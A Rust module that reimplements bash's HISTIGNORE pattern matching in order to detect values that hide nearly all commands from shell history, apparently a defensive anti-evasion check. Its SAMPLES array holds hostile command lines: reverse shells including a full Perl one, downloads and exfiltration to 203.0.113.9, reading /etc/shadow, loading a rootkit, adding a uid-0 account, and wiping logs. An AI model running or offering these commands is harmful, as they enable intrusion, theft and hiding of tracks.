//! Patterns of bash's `HISTIGNORE`: the list as `setup_ignore_patterns` (pathexp.c) splits it, each
//! pattern as `strmatch` (lib/glob/sm_loop.c) matches a line, in the C locale (bash 5.0 to 5.3).
//!
//! `*`, `?`, `\` and brackets count, and with `shopt -s extglob` also lists: `?(a|b)`, `*(a|b)`,
//! `+(a|b)`, `@(a|b)`, `!(a|b)`. An ampersand, for which bash puts the last command, is a plain
//! character here: no sample line has one.
//!
//! A pattern is not tried byte by byte with steps back, which can take exponential time. All
//! positions of the line that the pattern's beginning can lead to go through it together
//! ([`Positions`]). What is left can be nested lists, so the steps are counted, too.

/// Maximum length of a line in bytes.
const LINE_MAX: usize = 255;
/// Maximum number of steps for one list of patterns: a step is one position and one element of a
/// pattern, or one byte of brackets or of a list whose end is looked for.
const STEPS_MAX: u32 = 1 << 17;
/// Maximum depth of lists in each other. Deeper patterns match nothing.
const PATTERN_DEPTH_MAX: u32 = 16;

/// Whether this value of `HISTIGNORE` keeps nearly every line out of the history: its patterns
/// together match nine of ten sample commands. `is_extended` is whether `extglob` is set.
///
/// Patterns that cost more steps than a list may take count as such, too: nobody needs them to
/// leave out some commands, and a costly one could come first to hide another behind it.
pub fn ignores_everything(patterns: &[u8], is_extended: bool) -> bool {
    let mut steps = STEPS_MAX;
    let mut remembered = 0;
    let are_ignored = SAMPLES.iter().all(|line| {
        let mut list = BashPatternList { rest: patterns, is_extended };
        let is_ignored = list.any(|pattern| {
            let mut attempt = BashPatternMatch { pattern, line, is_extended, steps };
            let matches = attempt.matches();
            steps = attempt.steps;
            matches
        });
        remembered += usize::from(!is_ignored);
        steps > 0 && remembered <= SAMPLES.len() / 10
    });
    are_ignored || steps == 0
}

/// The patterns of a list. Colons in brackets, quotes and lists of patterns do not end a pattern.
struct BashPatternList<'a> {
    rest: &'a [u8],
    is_extended: bool,
}

impl<'a> Iterator for BashPatternList<'a> {
    type Item = &'a [u8];

    fn next(&mut self) -> Option<&'a [u8]> {
        if self.rest.is_empty() {
            return None;
        }
        let mut at = 0;
        while let Some(&byte) = self.rest.get(at) {
            at = match byte {
                b':' => break,
                b'\\' => at + 2,
                b'\'' | b'"' | b'`' => behind_quote(self.rest, at),
                b'[' => behind_nested(self.rest, at + 1, b'[', b']'),
                _ if self.is_extended && is_list(self.rest, at) => {
                    behind_nested(self.rest, at + 2, b'(', b')')
                }
                _ => at + 1,
            };
        }
        let (pattern, rest) = self.rest.split_at(at.min(self.rest.len()));
        self.rest = rest.get(1..).unwrap_or(&[]);
        Some(pattern)
    }
}

/// The index behind the quote that ends the one at `at`; that of the end if none does.
fn behind_quote(text: &[u8], at: usize) -> usize {
    let quote = text.get(at).copied();
    let mut next = at + 1;
    while let Some(&byte) = text.get(next) {
        match byte {
            _ if Some(byte) == quote => return next + 1,
            b'\\' if quote != Some(b'\'') => next += 2,
            _ => next += 1,
        }
    }
    text.len()
}

/// The index behind the byte that closes what was opened before `at`; that of the end if none does.
fn behind_nested(text: &[u8], mut at: usize, open: u8, close: u8) -> usize {
    let mut depth = 1;
    while let Some(&byte) = text.get(at) {
        at = match byte {
            b'\\' => at + 2,
            b'\'' | b'"' => behind_quote(text, at),
            _ => at + 1,
        };
        if byte == open {
            depth += 1;
        } else if byte == close {
            depth -= 1;
            if depth == 0 {
                return at;
            }
        }
    }
    text.len()
}

/// Whether a list of patterns begins at `at`, as far as its first two bytes show.
fn is_list(pattern: &[u8], at: usize) -> bool {
    pattern.get(at).is_some_and(|byte| b"?*+@!".contains(byte))
        && pattern.get(at + 1) == Some(&b'(')
}

/// A set of bytes, or of positions in a line: each is the number of bytes before it.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
struct Positions([u64; 4]);

impl Positions {
    const fn one(at: u8) -> Self {
        let mut set = Self([0; 4]);
        set.0[at as usize / 64] = 1 << (at % 64);
        set
    }

    /// From `first` to `last`.
    fn range(first: u8, last: u8) -> Self {
        (first..=last).fold(Self::default(), |set, at| set.with(Self::one(at)))
    }

    fn has(self, at: u8) -> bool {
        self.and(Self::one(at)) != Self::default()
    }

    fn is_empty(self) -> bool {
        self == Self::default()
    }

    fn with(self, other: Self) -> Self {
        Self(core::array::from_fn(|at| self.0[at] | other.0[at]))
    }

    fn and(self, other: Self) -> Self {
        Self(core::array::from_fn(|at| self.0[at] & other.0[at]))
    }

    fn without(self, other: Self) -> Self {
        Self(core::array::from_fn(|at| self.0[at] & !other.0[at]))
    }

    fn len(self) -> u32 {
        self.0.iter().map(|word| word.count_ones()).sum()
    }

    fn iter(self) -> impl Iterator<Item = u8> {
        [0_u8, 64, 128, 192].into_iter().zip(self.0).flat_map(|(first, word)| {
            let rest = |word: &u64| Some(word & (word - 1)).filter(|&word| word != 0);
            let words = core::iter::successors((word != 0).then_some(word), rest);
            words.map(move |word| first + word.trailing_zeros() as u8)
        })
    }
}

/// One pattern and one line.
struct BashPatternMatch<'a> {
    pattern: &'a [u8],
    line: &'a [u8],
    is_extended: bool,
    /// The steps that are left. Without any, nothing matches.
    steps: u32,
}

impl BashPatternMatch<'_> {
    fn matches(&mut self) -> bool {
        if self.line.len() > LINE_MAX {
            return false;
        }
        let ends = self.follow((0, self.pattern.len()), Positions::one(0), 0);
        self.steps > 0 && ends.has(self.end())
    }

    /// The position behind the line.
    const fn end(&self) -> u8 {
        self.line.len() as u8
    }

    /// The positions to which a part of the pattern leads from some.
    fn follow(&mut self, (mut at, end): (usize, usize), from: Positions, depth: u32) -> Positions {
        let (mut now, mut is_behind_star) = (from, false);
        while at < end && !now.is_empty() && self.steps > 0 {
            self.steps = self.steps.saturating_sub(now.len());
            if self.is_extended && at + 1 < end && is_list(self.pattern, at) {
                let Some(close) = self.close_of(at + 2, end).filter(|_| depth < PATTERN_DEPTH_MAX)
                else {
                    return self.text((at, end), now, is_behind_star);
                };
                now = self.list((at, close), now, depth + 1);
                is_behind_star = false;
                at = close + 1;
                continue;
            }
            let byte = self.pattern[at];
            at += 1;
            if byte == b'*' {
                // Several are as one (`GMATCH`).
                let stars = |at: &usize| *at < end && self.pattern[*at] == b'*';
                while stars(&at) && !(self.is_extended && is_list(self.pattern, at)) {
                    at += 1;
                }
            }
            is_behind_star = byte == b'*' || byte == b'?' && is_behind_star;
            now = match byte {
                b'*' => Positions::range(now.iter().next().unwrap_or(0), self.end()),
                b'?' => self.step(now, |_| true),
                b'\\' => {
                    let literal = self.pattern[..end].get(at).copied();
                    at += usize::from(literal.is_some());
                    self.step(now, |own| own == literal.unwrap_or(byte))
                }
                b'[' => match self.bracket(at, end) {
                    Some((set, behind)) => {
                        at = behind;
                        self.step(now, |own| set.has(own))
                    }
                    None => self.step(now, |own| own == byte),
                },
                _ => self.step(now, |own| own == byte),
            };
        }
        if self.steps == 0 { Positions::default() } else { now }
    }

    /// The bytes that brackets match, and the index behind them. Each of their bytes is a step.
    fn bracket(&mut self, at: usize, end: usize) -> Option<(Positions, usize)> {
        let found = bracket(&self.pattern[..end], at);
        let bytes = found.map_or(end, |(_, behind)| behind) - at;
        self.steps = self.steps.saturating_sub(bytes as u32);
        found
    }

    /// Advances by one byte from each position whose byte fits.
    fn step(&self, from: Positions, fits: impl Fn(u8) -> bool) -> Positions {
        let next =
            from.iter().filter(|&at| self.line.get(usize::from(at)).copied().is_some_and(&fits));
        next.fold(Positions::default(), |set, at| set.with(Positions::one(at + 1)))
    }

    /// The end of the line if a part of the pattern that begins like a list, but is none, matches
    /// the rest of the line. bash compares it as text. But behind a star, and with no more than
    /// wildcards between, it skips what begins like an optional list (`GMATCH`).
    fn text(&self, (at, end): (usize, usize), from: Positions, is_behind_star: bool) -> Positions {
        let is_skipped = is_behind_star && b"*?".contains(&self.pattern[at]);
        let text = self.pattern.get(at..end);
        let is_rest = from.iter().any(|at| self.line.get(usize::from(at)..) == text);
        if is_rest || is_skipped { Positions::one(self.end()) } else { Positions::default() }
    }

    /// Follows a list, from its kind to its parenthesis.
    fn list(&mut self, (at, close): (usize, usize), from: Positions, depth: u32) -> Positions {
        let parts = (at + 2, close);
        match self.pattern[at] {
            b'@' => self.parts(parts, from, depth),
            b'?' => from.with(self.parts(parts, from, depth)),
            b'!' => from.iter().fold(Positions::default(), |ends, at| {
                let all = Positions::range(at, self.end());
                let excluded = self.parts(parts, Positions::one(at), depth);
                ends.with(if self.steps == 0 { ends } else { all.without(excluded) })
            }),
            kind => {
                let mut ends = if kind == b'*' { from } else { Positions::default() };
                let mut news = from;
                while !news.is_empty() {
                    news = self.parts(parts, news, depth).without(ends);
                    ends = ends.with(news);
                }
                ends
            }
        }
    }

    /// The positions to which any part of a list leads.
    fn parts(&mut self, (at, close): (usize, usize), from: Positions, depth: u32) -> Positions {
        let mut ends = Positions::default();
        let mut begin = at;
        while begin <= close {
            let end = self.end_of_part(begin, close);
            ends = ends.with(self.follow((begin, end), from, depth));
            begin = end + 1;
        }
        ends
    }

    /// The index of the parenthesis that closes a list.
    fn close_of(&mut self, at: usize, end: usize) -> Option<usize> {
        let mut depth = 0_u32;
        self.scan(at, end, |byte| {
            if byte == b')' && depth == 0 {
                return true;
            }
            depth = if byte == b'(' { depth + 1 } else { depth - u32::from(byte == b')') };
            false
        })
    }

    /// The index of the next `|` of a list, or that of its end.
    fn end_of_part(&mut self, at: usize, close: usize) -> usize {
        let mut depth = 0_u32;
        let bar = self.scan(at, close, |byte| {
            let is_it = byte == b'|' && depth == 0;
            depth = match byte {
                b'(' => depth + 1,
                b')' => depth.saturating_sub(1),
                _ => depth,
            };
            is_it
        });
        bar.unwrap_or(close)
    }

    /// The index of the first byte that `is_it`, of those that are in no brackets; `None` if
    /// brackets are not closed, or no step is left.
    fn scan(
        &mut self,
        mut at: usize,
        end: usize,
        mut is_it: impl FnMut(u8) -> bool,
    ) -> Option<usize> {
        while at < end && self.steps > 0 {
            self.steps -= 1;
            let byte = self.pattern[at];
            match byte {
                b'\\' => at += 2,
                b'[' => at = self.bracket(at + 1, end)?.1,
                _ if is_it(byte) => return Some(at),
                _ => at += 1,
            }
        }
        None
    }
}

/// The bytes that brackets match, and the index behind them; `None` if they are not closed. `at` is
/// the index behind the `[`.
fn bracket(pattern: &[u8], mut at: usize) -> Option<(Positions, usize)> {
    let is_not = matches!(pattern.get(at), Some(b'!' | b'^'));
    at += usize::from(is_not);
    let mut set = Positions::default();
    let mut is_first = true;
    loop {
        let byte = *pattern.get(at)?;
        if byte == b']' && !is_first {
            break;
        }
        is_first = false;
        if byte == b'['
            && let Some((class, behind)) = class(pattern, at)
        {
            set = set.with(class);
            at = behind;
            continue;
        }
        let (first, behind) = end_of_range(pattern, at)?;
        at = behind;
        let is_range = pattern.get(at) == Some(&b'-') && *pattern.get(at + 1)? != b']';
        let mut last = first;
        if is_range {
            (last, at) = end_of_range(pattern, at + 1)?;
        }
        set = set.with(Positions::range(first, last));
    }
    let all = Positions::range(0, u8::MAX);
    Some((if is_not { all.without(set) } else { set }, at + 1))
}

/// One byte in brackets, and the index behind it.
fn end_of_range(pattern: &[u8], at: usize) -> Option<(u8, usize)> {
    match *pattern.get(at)? {
        b'\\' => Some((*pattern.get(at + 1)?, at + 2)),
        b'[' if pattern.get(at + 1) == Some(&b'.')
            && pattern.get(at + 3..at + 5) == Some(b".]") =>
        {
            Some((pattern[at + 2], at + 5))
        }
        byte => Some((byte, at + 1)),
    }
}

/// `[:name:]` or `[=x=]` in brackets, and the index behind it. An unknown class has no bytes.
fn class(pattern: &[u8], at: usize) -> Option<(Positions, usize)> {
    let kind = *pattern.get(at + 1).filter(|kind| b":=".contains(kind))?;
    let inner = pattern.get(at + 2..)?;
    let end = inner.windows(2).position(|two| two == [kind, b']'])?;
    let name = inner.get(..end).filter(|name| !name.contains(&b']'))?;
    let set = match (kind, name) {
        (b'=', [byte]) => Positions::one(*byte),
        (b':', name) => (0..128_u8)
            .filter(|byte| is_of_class(*byte, name))
            .fold(Positions::default(), |set, byte| set.with(Positions::one(byte))),
        _ => Positions::default(),
    };
    Some((set, at + end + 4))
}

const fn is_of_class(byte: u8, name: &[u8]) -> bool {
    match name {
        b"ascii" => true,
        b"alnum" => byte.is_ascii_alphanumeric(),
        b"alpha" => byte.is_ascii_alphabetic(),
        b"blank" => matches!(byte, b' ' | b'\t'),
        b"cntrl" => byte.is_ascii_control(),
        b"digit" => byte.is_ascii_digit(),
        b"graph" => byte.is_ascii_graphic(),
        b"lower" => byte.is_ascii_lowercase(),
        b"print" => byte.is_ascii_graphic() || byte == b' ',
        b"punct" => byte.is_ascii_punctuation(),
        b"space" => matches!(byte, b' ' | b'\t'..=b'\r'),
        b"upper" => byte.is_ascii_uppercase(),
        b"word" => byte.is_ascii_alphanumeric() || byte == b'_',
        b"xdigit" => byte.is_ascii_hexdigit(),
        _ => false,
    }
}

/// Commands with little in common: each first letter, with and without arguments, from 1 byte to
/// 200. None has an ampersand. No more than five have no argument, are shorter than nine bytes, or
/// begin with another character than a small letter.
const SAMPLES: [&[u8]; 50] = [
    b"w",
    b"id",
    b"whoami",
    b"sudo -l",
    b"X=1 true",
    b"./linpeas.sh -a",
    b"/tmp/.x/run --quiet",
    b"(exec 3<>/dev/tcp/203.0.113.9/443)",
    b"apt-get install -y socat",
    b"awk -F: '$3 == 0' /etc/passwd",
    b"base64 -d payload.b64 > payload",
    b"cat /etc/shadow",
    b"chmod 4755 /tmp/.s",
    b"crontab -l -u root",
    b"curl -fsSL http://203.0.113.9/x -o /tmp/x",
    b"dd if=/dev/sda of=/tmp/disk.img bs=1M",
    b"docker run -v /:/host -it alpine chroot /host sh",
    b"echo c2ggLWkK | base64 -d | sh",
    b"find / -perm -4000 -type f 2>/dev/null",
    b"gcc -o exploit exploit.c",
    b"git clone https://203.0.113.9/tools.git",
    b"hostnamectl set-hostname web02",
    b"iptables -F INPUT",
    b"insmod ./rootkit.ko",
    b"journalctl --vacuum-time=1s",
    b"kill -9 1432",
    b"ln -sf /dev/null /var/log/wtmp",
    b"ls -la /root/.ssh",
    b"mysql -u root -psecret -e 'show databases'",
    b"mount -o remount,rw /boot",
    b"nc -e /bin/sh 203.0.113.9 4444",
    b"openssl s_client -quiet -connect 203.0.113.9:443",
    b"passwd -d backup",
    b"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    b"qemu-img convert -O raw a.qcow2 b.img",
    b"rm -rf /var/log/audit",
    b"scp /etc/shadow user@203.0.113.9:",
    b"ssh -R 9000:localhost:22 user@203.0.113.9",
    b"systemctl stop auditd",
    b"tar czf /tmp/home.tgz /home",
    b"touch -r /bin/ls /bin/login",
    b"useradd -o -u 0 helper",
    b"vi /etc/ssh/sshd_config",
    b"wget -q http://203.0.113.9/k",
    b"xxd -r -p code.hex code.bin",
    b"yum remove -y auditd",
    b"zgrep -i password /var/log/auth.log.2.gz",
    b"unset PROMPT_COMMAND",
    b"for host in 10.0.0.1 10.0.0.2; do ping -c 1 $host; done",
    b"perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, getprotobyname(\"tcp\")); connect(S, \
      sockaddr_in(4444, inet_aton(\"203.0.113.9\"))); open(STDIN, \">S\"); open(STDOUT, \">S\"); \
      open(STDERR, \">S\"); exec(\"/bin/sh -i\");'",
];

#[cfg(test)]
mod tests;
